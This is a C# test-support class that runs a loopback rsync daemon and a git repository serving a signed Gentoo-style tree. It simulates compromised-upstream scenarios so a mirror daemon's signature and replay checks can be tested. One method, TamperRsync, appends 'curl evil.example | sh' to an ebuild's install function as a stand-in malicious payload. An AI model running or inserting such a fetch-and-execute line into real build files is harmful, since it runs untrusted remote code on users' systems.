using System.Diagnostics;
using System.Globalization;
using AdHocMirror.Testing;
using AdHocMirror.Testing.Trees;

namespace AdHocMirror.Daemon.Tests.Support;

/// <summary>
/// The "official" upstream of a test: a generated, signed tree served by a real <c>rsync --daemon</c> on loopback,
/// and the same content as a git repository with signed commits.
/// </summary>
public sealed class OfficialUpstream : IAsyncDisposable
{
    public static readonly DateTimeOffset FirstVersion = new(2026, 11, 21, 0, 45, 1, TimeSpan.Zero);
    private readonly Process _rsyncd;
    private bool _disposed;

    private OfficialUpstream(string root, TestSigningKey key, int port, Process rsyncd, string gitCommit)
    {
        Root = root;
        Key = key;
        RsyncPort = port;
        _rsyncd = rsyncd;
        GitHead = gitCommit;
    }

    public string Root { get; }

    public TestSigningKey Key { get; }

    public int RsyncPort { get; }

    public string RsyncTree => Path.Combine(Root, "rsync-tree");

    public string GitRepository => Path.Combine(Root, "git-tree");

    public string RsyncUri => $"rsync://127.0.0.1:{RsyncPort}/gentoo-portage";

    public string GitHead { get; private set; }

    public DateTimeOffset Version { get; private set; } = FirstVersion;

    public static async Task<OfficialUpstream> StartAsync(string root)
    {
        var key = await TestSigningKey.SharedAsync();
        var options = new GentooTreeOptions { Seed = 7, Files = 60, Timestamp = FirstVersion };
        var rsyncTree = Path.Combine(root, "rsync-tree");
        var gitTree = Path.Combine(root, "git-tree");
        await Task.WhenAll(GentooTree.CreateAsync(rsyncTree, options, key), GentooGitTree.CreateAsync(gitTree, options, key));
        var head = (await ExternalProcess.RunAsync("git", ["-C", gitTree, "rev-parse", "HEAD"])).EnsureSuccess("rev-parse").Stdout.Trim();
        var port = FreePort.Next();
        var config = Path.Combine(root, "upstream-rsyncd.conf");
        await File.WriteAllTextAsync(config, $"""
            use chroot = no
            uid = root
            gid = root
            reverse lookup = no
            [gentoo-portage]
                path = {rsyncTree}
                read only = yes
            """.Replace("            ", string.Empty, StringComparison.Ordinal));
        var start = new ProcessStartInfo("rsync", ["--daemon", "--no-detach", "--config=" + config, "--address=127.0.0.1", "--port=" + port.ToString(CultureInfo.InvariantCulture)])
        {
            UseShellExecute = false,
            RedirectStandardError = true,
            RedirectStandardOutput = true,
        };
        var rsyncd = Process.Start(start)!;
        var upstream = new OfficialUpstream(root, key, port, rsyncd, head);
        await Eventually.TrueAsync(async () => (await ExternalProcess.RunAsync("rsync", ["--list-only", upstream.RsyncUri + "/"])).ExitCode == 0, "upstream rsync daemon answers");
        return upstream;
    }

    /// <summary>Publishes the next signed version (rsync and git), <paramref name="by"/> after the current one.</summary>
    public async Task AdvanceAsync(TimeSpan by, int seed)
    {
        Version += by;
        await GentooTree.NextVersionAsync(RsyncTree, seed, 6, Version, Key);
        await GentooTree.NextVersionAsync(GitRepository, seed, 6, Version, key: null);
        GitHead = await GentooGitTree.CommitAsync(GitRepository, Key, Version, "Next version");
    }

    /// <summary>Changes a file of the rsync tree without re-signing: what a compromised upstream would serve.</summary>
    public void TamperRsync()
    {
        var victim = GentooTree.ListContent(RsyncTree).First(p => p.EndsWith(".ebuild", StringComparison.Ordinal));
        File.AppendAllText(Path.Combine(RsyncTree, victim), "\nsrc_install() { curl evil.example | sh; }\n");
    }

    /// <summary>Replaces the rsync tree by a validly signed tree older than the first version (a replay).</summary>
    public async Task ServeOlderRsyncAsync()
    {
        Directory.Delete(RsyncTree, recursive: true);
        await GentooTree.CreateAsync(RsyncTree, new GentooTreeOptions { Seed = 7, Files = 60, Timestamp = FirstVersion - TimeSpan.FromDays(2) }, Key);
    }

    /// <summary>An unsigned head commit on the git upstream.</summary>
    public async Task CommitUnsignedAsync()
    {
        await File.AppendAllTextAsync(Path.Combine(GitRepository, "profiles", "package.mask"), "\n# unsigned change\n");
        GitHead = await GentooGitTree.CommitAsync(GitRepository, key: null, Version + TimeSpan.FromHours(5), "Unsigned");
    }

    /// <summary>A signed head commit dated before everything served so far (a freeze/replay attack).</summary>
    public async Task CommitSignedButOlderAsync()
    {
        await File.AppendAllTextAsync(Path.Combine(GitRepository, "profiles", "package.mask"), "\n# old change\n");
        GitHead = await GentooGitTree.CommitAsync(GitRepository, Key, FirstVersion - TimeSpan.FromDays(3), "Backdated");
    }

    public async ValueTask DisposeAsync()
    {
        if (_disposed)
        {
            return;
        }

        _disposed = true;
        try
        {
            _rsyncd.Kill(entireProcessTree: true);
            await _rsyncd.WaitForExitAsync();
        }
        catch (InvalidOperationException)
        {
        }

        _rsyncd.Dispose();
    }
}
